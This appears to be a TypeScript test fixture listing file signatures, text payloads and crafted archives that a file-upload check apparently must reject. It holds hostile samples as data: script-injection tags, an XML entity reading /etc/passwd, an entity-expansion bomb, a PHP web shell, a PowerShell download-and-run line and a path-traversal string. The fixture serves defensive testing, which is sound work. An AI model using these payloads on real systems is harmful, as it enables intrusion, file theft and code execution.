import { gzipSync } from "node:zlib";
import { zip } from "./made";

/** How content of other kinds begins, in hexadecimal. */
const BEGINNINGS: Readonly<Record<string, string>> = {
  "heic of ten bits": "000000186674797068656978",
  "heic of several": "00000018667479706d696631",
  "heic film": "000000186674797068657663",
  "avif film": "000000186674797061766973",
  "jpeg 2000": "0000000c6a5020200d0a870a",
  "jpeg xl": "0000000c4a584c200d0a870a",
  "bare jpeg xl": "ff0a",
  "jpeg xr": "4949bc01",
  "raw of a camera": "49492a00100000004352",
  "mng, a sister of png": "8a4d4e470d0a1a0a",
  "jng, another": "8b4a4e470d0a1a0a",
  "Windows metafile": "d7cdc69a",
  webm: "1a45dfa3",
  avi: "524946462400000041564920",
  wasm: "0061736d01000000",
  "Mac program": "cffaedfe",
  "fat Mac program": "cafebabe00000002",
  "Android program": "6465780a30333500",
  "Python's compiled": "a70d0d0a",
  "Windows help": "49545346",
  cabinet: "4d534346",
  "disk image": "eb3c904d53444f53",
  xz: "fd377a585a00",
  zstd: "28b52ffd",
  tar: "7573746172",
  "Debian package": "213c617263683e0a",
  sqlite: "53514c69746520666f726d6174203300",
  woff2: "774f4632",
  pickle: "80049500000000",
  "zip that was cut into parts": "504b0708",
  "empty zip": "504b0506000000000000000000000000000000000000",
};

/** Texts that some program runs or follows. */
const TEXTS: Readonly<Record<string, string>> = {
  "page behind a byte order mark": "\ufeff<!doctype html><script>alert(1)</script>",
  "page behind a comment": "<!-- %PDF-1.4 --><script>alert(1)</script>",
  xhtml: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
  "svg without a script": '<svg xmlns="http://www.w3.org/2000/svg"/>',
  "svg behind a declaration": '<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"/>',
  "svg that names an outside file":
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  "svg that draws another":
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://inside.test/"/></svg>',
  "xml with nine times nine times nine entities": `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from(
    { length: 9 },
    (_, nth) => `<!ENTITY a${nth + 1} "${`&a${nth};`.repeat(9)}">`,
  ).join("")}]><x>&a9;</x>`,
  "xml with a stylesheet": '<?xml-stylesheet href="x.xsl"?><x/>',
  "flat document": '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
  "workbook as a page": "<html xmlns:x='urn:schemas-microsoft-com:office:excel'><table><td>=1+1</td></table>",
  "page as mail": "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
  hta: "<HTA:APPLICATION><script>new ActiveXObject('WScript.Shell')</script>",
  "Visual Basic": 'CreateObject("WScript.Shell").Run "calc"',
  powershell: "iex (iwr http://inside.test)",
  "address as a file": "[InternetShortcut]\r\nURL=file://inside.test/x",
  php: "<?php system($_GET[0]);",
  javascript: "export default () => fetch('http://inside.test')",
  symlink: "../../../etc/passwd",
  "picture maker's words": "push graphic-context\nfill 'url(https://inside.test/|id)'\npop graphic-context",
  "pdf in small letters": "%pdf-1.4\n%%eof",
  "pdf behind a blank": " %PDF-1.4\n%%EOF",
  "pdf behind a byte order mark": "\ufeff%PDF-1.4\n%%EOF",
  "end of a pdf alone": "%%EOF",
  "form of Adobe's": "%FDF-1.2\n%%EOF",
  "words alone": "Biên bản họp ngày 05/11/2021",
};

const CONTENT = { name: "[Content_Types].xml" };

/** Archives that are documents of other programs. */
const ARCHIVES: Readonly<Record<string, Buffer>> = {
  epub: zip([{ name: "mimetype" }, { name: "META-INF/container.xml" }]),
  ods: zip([{ name: "mimetype" }, { name: "content.xml" }, { name: "settings.xml" }]),
  "Android package": zip([{ name: "AndroidManifest.xml" }, { name: "classes.dex" }]),
  "browser's add-on": zip([{ name: "manifest.json" }]),
  drawing: zip([CONTENT, { name: "visio/document.xml" }]),
  "workbook in binary": zip([CONTENT, { name: "xl/workbook.bin" }]),
  "package of fonts": zip([CONTENT, { name: "FixedDocSeq.fdseq" }]),
  "Windows application": zip([CONTENT, { name: "AppxManifest.xml" }]),
  "document in capitals": zip([CONTENT, { name: "WORD/DOCUMENT.XML" }]),
  "document one folder down": zip([CONTENT, { name: "x/word/document.xml" }]),
  "document with the other stroke": zip([CONTENT, { name: "word\\document.xml" }]),
  "document in a document": zip([{ name: "x.docx", content: zip([CONTENT, { name: "word/document.xml" }]) }]),
  "types without a document": zip([CONTENT]),
};

/** Content that is no evidence whatever it is called: kinds, texts and archives of others. */
export const ODD_KINDS: Readonly<Record<string, Buffer>> = {
  ...Object.fromEntries(
    Object.entries(BEGINNINGS).map(([kind, begins]) => [
      kind,
      Buffer.concat([Buffer.from(begins, "hex"), Buffer.alloc(64)]),
    ]),
  ),
  ...Object.fromEntries(Object.entries(TEXTS).map(([kind, text]) => [kind, Buffer.from(text)])),
  "page in two bytes a letter": Buffer.from("\ufeff<script>alert(1)</script>", "utf16le"),
  "gzip of a page": gzipSync("<script>alert(1)</script>"),
  ...ARCHIVES,
};
